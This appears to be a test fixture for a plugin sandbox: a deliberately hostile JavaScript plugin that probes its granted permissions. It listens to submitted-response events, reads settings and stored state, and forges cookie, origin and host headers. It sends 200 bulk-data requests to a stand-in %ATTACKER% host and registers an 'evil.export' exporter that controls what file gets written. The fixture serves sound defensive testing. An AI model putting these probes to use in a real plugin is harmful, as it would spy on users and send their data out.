// A hostile plugin with some grants, and what it makes of them. Attempts 69 and 80 to 88.
let host;
let kept;
const seen = [];
const say = (promise) => promise.then((value) => value ?? 'done', (error) => error.code);
const get = (url, init) => say(host.fetch(url, init));

export const listen = async (type = 'cx.response.submitted', more = {}) => {
  host.events.on(type, (event) => void seen.push(event), more);
  await new Promise((resolve) => setTimeout(resolve, 50));
};
export const heard = () => JSON.stringify(seen);
export const contextKey = (key, value) => say(host.contextKeys.set(key, value));
export const setting = (key) => say(host.workspace.getConfiguration().get(key));
export const fetches = async (...urls) => {
  const result = {};
  for (const url of urls) result[url] = await get(url).then((one) => one.status ?? one);
  return result;
};
export const bodies = async (...urls) => {
  const result = [];
  for (const url of urls) result.push((await get(url)).text);
  return result;
};
export const headers = () => Promise.all(['cookie', 'host', 'origin', 'referer', 'user-agent', 'sec-fetch-site'].map((name) => get('%ATTACKER%/granted/header', { headers: { [name]: 'forged' } })));
export const pour = async () => {
  let sent = 0;
  for (let i = 0; i < 200; i++) {
    const outcome = await get(`%ATTACKER%/granted/pour?data=${'x'.repeat(1500)}`);
    if (outcome.status) sent += 1;
  }
  return sent;
};
export const storage = async (...keys) => {
  const result = [];
  for (const key of keys) result.push(await say(kept.get(key)));
  return result;
};
/** The file that is written when somebody saves an export. */
let file = { name: 'a.csv', type: 'text/csv', text: '' };
export const writes = (name, type, text) => void (file = { name, type, text });
export const activate = (context, cx) => {
  cx.exporters.register('evil.export', { write: () => file });
  host = cx;
  kept = context.globalState;
};
